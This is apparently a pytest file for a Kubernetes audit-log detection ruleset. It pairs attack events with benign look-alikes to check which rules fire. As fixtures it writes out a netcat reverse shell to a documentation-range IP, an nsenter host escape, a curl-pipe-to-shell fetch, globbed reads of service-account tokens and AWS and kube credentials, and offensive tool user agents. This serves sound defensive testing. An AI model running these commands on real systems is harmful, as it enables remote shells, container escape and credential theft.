"""Gaps a third outside review found against peer catalogues (Falco, Sigma, Elastic,
Datadog, GuardDuty, Stratus Red Team), each with the attack event and the nearest benign
look-alike: a trusted image running someone's shell, a controller's service account put in
a pod, CronJobs, tokens and certificates from stolen workload tokens, globbed credential
paths, a service account refused something sensitive, node binaries mounted from the host.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from test_rules_helpers import T0, ev, exec_ev, frame, iam, pod, sa, workload

from detector.rules import evaluate_rules, load_ruleset
from detector.rules.condition import DERIVED_FIELDS

RBAC = "rbac.authorization.k8s.io"
KUBE_PROXY = "registry.k8s.io/kube-proxy:v1.30.2"
VPC_CNI = "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.19.0"
ENGINEER = iam("mallory", "eng-admin")


@pytest.fixture(scope="module")
def ruleset():
    return load_ruleset()


def fired(ruleset, rule_id: str, *events: dict[str, Any], **kw: Any) -> int:
    return evaluate_rules(frame(*events), ruleset.only(rule_id), **kw).findings.height


# --------------------------------------------------------------------------- 1. trusted images


def node_agent(image: str, command: list[str] | None, *, args: list[str] | None = None) -> dict:
    """A privileged, host-network, hostPID DaemonSet of ``image`` in kube-system."""
    body = workload(
        "DaemonSet",
        ns="kube-system",
        image=image,
        privileged=True,
        host_pid=True,
        host_network=True,
    )
    container = body["spec"]["template"]["spec"]["containers"][0]
    if command is not None:
        container["command"] = command
    if args is not None:
        container["args"] = args
    # What real node agents carry: an exec probe and a preStop hook running sh -c.
    container["livenessProbe"] = {"exec": {"command": ["/bin/sh", "-c", "test -S /run/x.sock"]}}
    container["lifecycle"] = {"preStop": {"exec": {"command": ["/bin/sh", "-c", "rm -f /x"]}}}
    return body


def ds(body: Any, user: Any = ENGINEER, verb: str = "create") -> dict[str, Any]:
    return ev(verb, "daemonsets", ns="kube-system", name="w", group="apps", user=user, body=body)


REVERSE_SHELL = ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]
NSENTER = ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"]


def test_a_trusted_image_running_a_shell_set_by_a_person_fires(ruleset):
    rule = "trusted-image-shell-command"
    assert fired(ruleset, rule, ds(node_agent(KUBE_PROXY, REVERSE_SHELL))) == 1
    assert fired(ruleset, rule, ds(node_agent(VPC_CNI, NSENTER))) == 1
    wrapped = node_agent(KUBE_PROXY, ["/bin/sh"], args=["-c", "curl -s http://x/p | sh"])
    assert fired(ruleset, rule, ds(wrapped, user=sa("ci", "deployer"))) == 1
    # The same command patched into the running DaemonSet (kubectl patch --type=json): the
    # body names no image, the patched object in the response does.
    path = "/spec/template/spec/containers/0/command"
    patch = ds([{"op": "replace", "path": path, "value": REVERSE_SHELL}], verb="patch")
    patch["responseObject"] = node_agent(KUBE_PROXY, REVERSE_SHELL)
    assert fired(ruleset, rule, patch) == 1
    patch["responseObject"] = node_agent("ghcr.io/acme/agent:1.0", REVERSE_SHELL)
    assert fired(ruleset, rule, patch) == 0
    # The trust the other rules give the image is unchanged: this rule is what reports it.
    assert fired(ruleset, "privileged-container", ds(node_agent(KUBE_PROXY, REVERSE_SHELL))) == 0


def test_a_trusted_image_running_its_own_program_stays_quiet(ruleset):
    rule = "trusted-image-shell-command"
    own = ["kube-proxy", "--v=2", "--config=/var/lib/kube-proxy-config/config"]
    assert fired(ruleset, rule, ds(node_agent(KUBE_PROXY, own))) == 0
    assert fired(ruleset, rule, ds(node_agent(VPC_CNI, None))) == 0  # probes and hooks unread
    # The controller copying the template, and a GitOps controller applying it.
    controller = "system:serviceaccount:kube-system:daemon-set-controller"
    pod_ev = ev("create", "pods", ns="kube-system", user=controller, body=pod("kube-system"))
    pod_ev["requestObject"]["spec"]["containers"][0].update(image=KUBE_PROXY, command=NSENTER)
    assert fired(ruleset, rule, pod_ev) == 0
    argo = "system:serviceaccount:argocd:argocd-application-controller"
    assert fired(ruleset, rule, ds(node_agent(KUBE_PROXY, REVERSE_SHELL), user=argo)) == 0
    # An untrusted image with a shell is every other rule's business, not this one's.
    assert fired(ruleset, rule, ds(node_agent("busybox:1.36", REVERSE_SHELL))) == 0


def test_container_commands_skip_probes_and_hooks():
    body = node_agent(KUBE_PROXY, ["kube-proxy"], args=["--v=2", 'say "a]b"'])
    got = frame(ds(body)).select(DERIVED_FIELDS["container_command_lines"].build().alias("c"))
    assert got["c"][0].to_list() == ['kube-proxy --v=2 say "a]b"']


# --------------------------------------------------------------------------- 2. controller SA


def kube_system_pod(sa_name: str, user: Any = ENGINEER, *, key: str = "serviceAccountName"):
    body = pod("kube-system", image=KUBE_PROXY)
    body["spec"][key] = sa_name
    return ev("create", "pods", ns="kube-system", name="p", code=201, user=user, body=body)


@pytest.mark.parametrize(
    "name", ["clusterrole-aggregation-controller", "namespace-controller", "job-controller"]
)
def test_a_pod_given_a_controller_service_account_fires(ruleset, name):
    rule = "controller-service-account-pod"
    assert fired(ruleset, rule, kube_system_pod(name)) == 1
    assert fired(ruleset, rule, kube_system_pod(name, key="serviceAccount")) == 1
    # pod-in-kube-namespace trusts the kube-proxy image: this one does not.
    assert fired(ruleset, "pod-in-kube-namespace", kube_system_pod(name)) == 0


def test_add_on_service_accounts_and_controller_copies_stay_quiet(ruleset):
    rule = "controller-service-account-pod"
    assert fired(ruleset, rule, kube_system_pod("aws-node")) == 0
    assert fired(ruleset, rule, kube_system_pod("coredns")) == 0
    replicaset = "system:serviceaccount:kube-system:replicaset-controller"
    assert fired(ruleset, rule, kube_system_pod("namespace-controller", user=replicaset)) == 0


def test_the_two_lists_of_controller_accounts_agree(ruleset):
    full = ruleset.lists["kube_controller_manager_service_accounts"]
    short = ruleset.lists["kube_controller_manager_sa_names"]
    assert [n.removeprefix("system:serviceaccount:kube-system:") for n in full] == short


# --------------------------------------------------------------------------- 3. CronJobs


def cronjob(user: Any, verb: str = "create") -> dict[str, Any]:
    body = {
        "kind": "CronJob",
        "metadata": {"name": "c"},
        "spec": {
            "schedule": "*/5 * * * *",
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {"containers": [{"name": "c", "image": "alpine", "args": ["id"]}]}
                    }
                }
            },
        },
    }
    return ev(verb, "cronjobs", ns="shop", name="c", group="batch", code=201, user=user, body=body)


def test_a_cronjob_from_a_workload_token_fires(ruleset):
    rule = "cronjob-created-by-service-account"
    assert fired(ruleset, rule, cronjob(sa("shop", "api"))) == 1
    assert fired(ruleset, rule, cronjob(sa("ci", "deployer"), verb="patch")) == 1


def test_cronjobs_from_gitops_controllers_and_jobs_from_service_accounts_stay_quiet(ruleset):
    rule = "cronjob-created-by-service-account"
    assert fired(ruleset, rule, cronjob(sa("argocd", "argocd-application-controller"))) == 0
    assert fired(ruleset, rule, cronjob(sa("flux-system", "kustomize-controller"))) == 0
    job = cronjob(sa("argo", "argo-workflows"))
    job["objectRef"]["resource"] = "jobs"
    assert fired(ruleset, rule, job) == 0
    controller = "system:serviceaccount:kube-system:cronjob-controller"
    assert fired(ruleset, rule, cronjob(controller, verb="update")) == 0


# --------------------------------------------------------------------------- 4. tokens


def token_request(ns: str, name: str, user: Any, seconds: int | None = 3600) -> dict[str, Any]:
    spec: dict[str, Any] = {"audiences": ["https://kubernetes.default.svc"]}
    if seconds is not None:
        spec["expirationSeconds"] = seconds
    body = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": spec}
    return ev(
        "create", "serviceaccounts", ns=ns, name=name, sub="token", code=201, user=user, body=body
    )


NODE = "system:node:ip-10-0-1-7.ec2.internal"


def test_a_workload_minting_a_token_for_another_account_fires(ruleset):
    rule = "token-requested-by-service-account"
    assert fired(ruleset, rule, token_request("shop", "payments", sa("shop", "api"))) == 1
    # A person minting one for their own application: a record, not an alert.
    assert fired(ruleset, rule, token_request("shop", "payments", ENGINEER)) == 0
    assert (
        fired(
            ruleset, "service-account-token-requested", token_request("shop", "payments", ENGINEER)
        )
        == 1
    )


def test_kubelets_and_token_operators_stay_quiet(ruleset):
    for rule in ("token-requested-by-service-account", "service-account-token-requested"):
        assert fired(ruleset, rule, token_request("shop", "payments", NODE, 3607)) == 0
    operator = sa("cert-manager", "cert-manager")
    assert (
        fired(
            ruleset,
            "token-requested-by-service-account",
            token_request("vault", "issuer", operator),
        )
        == 0
    )


def test_a_token_for_more_than_a_day_fires(ruleset):
    rule = "long-lived-token-requested"
    assert fired(ruleset, rule, token_request("shop", "payments", ENGINEER, 31_536_000)) == 1
    assert fired(ruleset, rule, token_request("shop", "payments", ENGINEER, 3600)) == 0
    assert fired(ruleset, rule, token_request("shop", "payments", ENGINEER, None)) == 0
    # IRSA: the kubelet asks for a day for every pod with a role.
    assert fired(ruleset, rule, token_request("shop", "payments", NODE, 86400)) == 0


# --------------------------------------------------------------------------- 5. CSRs


def csr(user: Any, sub: str | None = None, verb: str = "create") -> dict[str, Any]:
    body = {
        "kind": "CertificateSigningRequest",
        "metadata": {"name": "c"},
        "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "request": "LS0t"},
    }
    code = 201 if verb == "create" else 200
    return ev(
        verb, "certificatesigningrequests", name="c", sub=sub, group="certificates.k8s.io",
        code=code, user=user, body=body,
    )  # fmt: skip


def test_csr_created_and_approved_by_a_workload_token_fire(ruleset):
    thief = sa("shop", "api")
    assert fired(ruleset, "csr-created-by-service-account", csr(thief)) == 1
    approval = csr(thief, sub="approval", verb="update")
    assert fired(ruleset, "csr-approved-by-service-account", approval) == 1


def test_csrs_of_kubelets_the_controller_and_known_approvers_stay_quiet(ruleset):
    assert fired(ruleset, "csr-created-by-service-account", csr(NODE)) == 0
    assert fired(ruleset, "csr-created-by-service-account", csr(ENGINEER)) == 0  # person rule's
    controller = "system:serviceaccount:kube-system:certificate-controller"
    approver = sa("kube-system", "kubelet-csr-approver")
    for who in (controller, approver):
        approval = csr(who, sub="approval", verb="update")
        assert fired(ruleset, "csr-approved-by-service-account", approval) == 0


# --------------------------------------------------------------------------- 6. globs


@pytest.mark.parametrize(
    ("attack", "benign"),
    [
        ("cat /var/run/secre*/*/tok*", "ls /*/*"),
        ("cat ~/.aws/cred*", "cat ~/.aws/config"),
        ("cat /etc/kube*/admin.conf", "cat /etc/resolv.conf"),
        ("cat /r?n/secrets/kubernetes.io/serviceaccount/t?ken", "rm -rf /tmp/*/*"),
        ("cat /v*/l*/kubelet/pki/kubelet-client-current.pem", "tail -n 50 /var/log/app/*.log"),
        ("cat $HOME/.kube/conf[i]g", "cat $HOME/.bashrc"),
        ('cat ~/.a"w"s/credentials', 'echo "aws" credentials'),
        ("cat /home/*/.docker/*.json", "cat /home/*/notes.txt"),
    ],
)
def test_globbed_and_quoted_credential_paths_fire(ruleset, attack, benign):
    assert fired(ruleset, "exec-credential-read", exec_ev(["sh", "-c", attack], verb="get")) == 1
    assert fired(ruleset, "exec-credential-read", exec_ev(["sh", "-c", benign], verb="get")) == 0


def test_expansion_keeps_the_first_path_component():
    import re

    from detector.rules.condition import expansion_regex

    rx = re.compile(
        expansion_regex(("/var/run/secrets", ".aws/credentials")).replace("(?i)", ""), re.I
    )
    assert rx.search("/v*/run/*/x") and rx.search("/.aws/c*")
    assert not rx.search("/*/run/x") and not rx.search("*/credentials")


# --------------------------------------------------------------------------- 7. denied SA


def denied(user: Any, verb: str, resource: str, *, sub: str | None = None, at=T0, **kw) -> dict:
    return ev(verb, resource, sub=sub, code=403, decision="forbid", user=user, at=at, **kw)


def test_one_denied_sensitive_request_by_a_service_account_fires(ruleset):
    rule = "service-account-denied-sensitive"
    thief = sa("shop", "api")
    assert fired(ruleset, rule, denied(thief, "list", "secrets", ns="kube-system")) == 1
    binding = denied(thief, "create", "clusterrolebindings", group=RBAC)
    assert fired(ruleset, rule, binding) == 1
    assert (
        fired(ruleset, rule, denied(thief, "create", "pods", sub="exec", ns="shop", name="p")) == 1
    )


def test_routine_denials_and_other_callers_stay_quiet(ruleset):
    rule = "service-account-denied-sensitive"
    thief = sa("shop", "api")
    assert fired(ruleset, rule, denied(thief, "list", "configmaps", ns="shop")) == 0
    # Admission refusing a pod (PodSecurity, a webhook) is not an authorization denial.
    admission = ev("create", "pods", ns="shop", code=403, decision="allow", user=thief)
    assert fired(ruleset, rule, admission) == 0
    assert fired(ruleset, rule, denied(ENGINEER, "list", "secrets", ns="kube-system")) == 0
    kcm = "system:serviceaccount:kube-system:namespace-controller"
    assert fired(ruleset, rule, denied(kcm, "list", "secrets", ns="kube-system")) == 0


def test_an_account_denied_all_day_is_judged_against_its_usual(ruleset):
    rule = "service-account-denied-sensitive"
    noisy = sa("monitoring", "exporter")
    week = [
        denied(noisy, "list", "secrets", ns="kube-system", at=T0 - timedelta(minutes=10 * i))
        for i in range(1, 7 * 144)
    ]
    now = [denied(noisy, "list", "secrets", ns="kube-system", at=T0 + timedelta(seconds=1))]
    assert fired(ruleset, rule, *now) == 1  # no history: one is enough
    assert fired(ruleset, rule, *now, history=frame(*week)) == 0


PROBED = ("secrets", "nodes", "clusterroles", "serviceaccounts", "pods")


def probing(user: Any, kinds: tuple[str, ...], at=T0) -> list[dict]:
    """``user`` refused once on each of ``kinds``, a few seconds apart."""
    return [
        denied(user, "list", kind, ns="kube-system", at=at + timedelta(seconds=3 * i))
        for i, kind in enumerate(kinds)
    ]


def test_a_person_refused_on_five_kinds_of_resource_in_a_window_fires(ruleset):
    """Stolen IAM credentials probing what they may do, a request a kind: five refusals,
    far under the denial spike's twenty, on five kinds. The same five refusals on one kind
    (a script retrying), on four kinds, or by a service account (its own rule) do not."""
    rule = "person-denied-across-resources"
    assert fired(ruleset, rule, *probing(ENGINEER, PROBED)) == 1
    assert fired(ruleset, rule, *probing(ENGINEER, ("secrets",) * 5)) == 0
    assert fired(ruleset, rule, *probing(ENGINEER, PROBED[:4])) == 0
    assert fired(ruleset, rule, *probing(sa("shop", "api"), PROBED)) == 0
    assert fired(ruleset, rule, *probing(ENGINEER, PROBED)) == 1
    assert fired(ruleset, "auth-failure-spike-principal", *probing(ENGINEER, PROBED)) == 0


def test_a_person_refused_on_every_kind_all_week_sets_a_higher_bar(ruleset):
    """Against a week in which the person was refused on the same five kinds in every
    window, five is their usual: the rule waits for three times as many kinds."""
    rule = "person-denied-across-resources"
    week = [
        e
        for i in range(1, 7 * 144)
        for e in probing(ENGINEER, PROBED, at=T0 - timedelta(minutes=10 * i))
    ]
    more = (*PROBED, "configmaps", "roles", "rolebindings", "namespaces", "jobs", "leases")
    wider = probing(ENGINEER, (*more, "events", "ingresses", "endpoints", "daemonsets"))
    assert fired(ruleset, rule, *probing(ENGINEER, PROBED), history=frame(*week)) == 0
    assert fired(ruleset, rule, *wider, history=frame(*week)) == 1


def test_the_rule_ships_off(ruleset):
    """k9s and Lens make it flood for people with little access (see the rule)."""
    assert not ruleset.get("person-denied-across-resources").enabled


# --------------------------------------------------------------------------- 8. host paths


@pytest.mark.parametrize(
    ("path", "benign"),
    [
        ("/usr/bin", "/usr/share/zoneinfo"),
        ("/usr/sbin", "/lib/modules"),
        ("/bin", "/data/app"),
        ("/sbin", "/mnt/scratch"),
        ("/usr/local/bin", "/usr/lib/modules"),
        ("/usr/bin/", "/srv/www"),
        ("/opt/cni/bin", "/opt/app"),
    ],
)
def test_node_binary_folders_are_sensitive_mounts(ruleset, path, benign):
    def created(host_path: str) -> dict[str, Any]:
        return ev("create", "pods", ns="shop", body=pod("shop", host_path=host_path))

    assert fired(ruleset, "sensitive-host-mount", created(path)) == 1
    assert fired(ruleset, "sensitive-host-mount", created(benign)) == 0


def test_an_expands_to_list_too_large_to_compile_is_refused_at_load_in_one_line():
    """A site list of hundreds of long paths makes a glob pattern past the regex engine's
    size limit: refused when the rules load (one short line), not mid-scoring."""
    from detector.rules.condition import ConditionError, predicate

    paths = [f"/very/long/path/number/{i}/with/many/components/secret-{i}" for i in range(400)]
    with pytest.raises(ConditionError) as refused:
        predicate("exec_command", "expands_to", paths)
    message = str(refused.value)
    assert "size limit" in message and len(message) < 300 and "\n" not in message


# --------------------------------------------------------------------------- attack tools' agents

#: What the tools send: Stratus Red Team's own agent, client-go's default for a program
#: built on it (its name, a slash, its version), a krew plugin's (kubectl-NAME).
ATTACK_AGENTS = [
    "stratus-red-team_8cb1ee36-86c3-4241-a32c-163c78cde7b6",
    "kubectl-access_matrix/v0.0.0 (linux/amd64) kubernetes/$Format",
    "trufflehog/3.88.0",
    "kdigger/v0.0.0 (linux/amd64) kubernetes/$Format",
    "peirates/v0.0.0 (linux/amd64) kubernetes/$Format",
    "KubeHound-Collector/v1.5.0",
]
#: What clusters hear all day: kubectl, controllers and operators on client-go, Helm,
#: Terraform, the Python and Java clients, consoles (k9s, Lens), scanners a platform team
#: runs on purpose, and a tool whose name only contains an attack tool's.
ROUTINE_AGENTS = [
    "kubectl/v1.31.2 (darwin/arm64) kubernetes/abcdef0",
    "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/39683505/"
    "system:serviceaccount:kube-system:replicaset-controller",
    "argocd-application-controller/v2.13.1+af54ef8 (linux/amd64) kubernetes/$Format",
    "Helm/3.16.3",
    "HashiCorp/1.0 Terraform/1.9.8",
    "OpenAPI-Generator/31.0.0/python",
    "kubernetes-java-kotlin-client/19.0.0",
    "k9s/v0.32.7 (linux/amd64) kubernetes/$Format",
    "Lens/6.5.2",
    "kubescape/v3.0.21 (linux/amd64) kubernetes/$Format",
    "trivy-operator/v0.24.1 (linux/amd64) kubernetes/$Format",
    "karpenter/v1.1.0",
    "Go-http-client/2.0",
    "my-kdigger-dashboard/1.0",
]


@pytest.mark.parametrize("agent", ATTACK_AGENTS)
def test_an_attack_tools_agent_fires_allowed_or_refused(ruleset, agent):
    allowed = ev("list", "secrets", ns="prod", user=sa("prod", "web"))
    refused = ev("list", "secrets", ns="kube-system", user=ENGINEER, code=403, decision=None)
    for event in (allowed, refused):
        event["userAgent"] = agent
        assert fired(ruleset, "offensive-tool-user-agent", event) == 1, (agent, event["verb"])


def test_routine_agents_stay_quiet(ruleset):
    events = []
    for agent in ROUTINE_AGENTS:
        event = ev("get", "pods", ns="default", user=ENGINEER)
        event["userAgent"] = agent
        events.append(event)
    assert fired(ruleset, "offensive-tool-user-agent", *events) == 0


def test_a_red_teams_identity_named_in_its_list_stays_quiet(tmp_path):
    site = tmp_path / "red-team.yaml"
    site.write_text(
        "- list: user_known_offensive_tool_users\n  append: true\n"
        "  items: ['arn:aws:iam::*:role/red-team/*']\n"
    )
    event = ev("list", "pods", user=iam("mallory", "red-team"))
    event["userAgent"] = ATTACK_AGENTS[0]
    stranger = ev("list", "pods", user=iam("eve", "eng-admin"))
    stranger["userAgent"] = ATTACK_AGENTS[0]
    tuned = load_ruleset([str(site)])
    assert fired(tuned, "offensive-tool-user-agent", event) == 0
    assert fired(tuned, "offensive-tool-user-agent", stranger) == 1
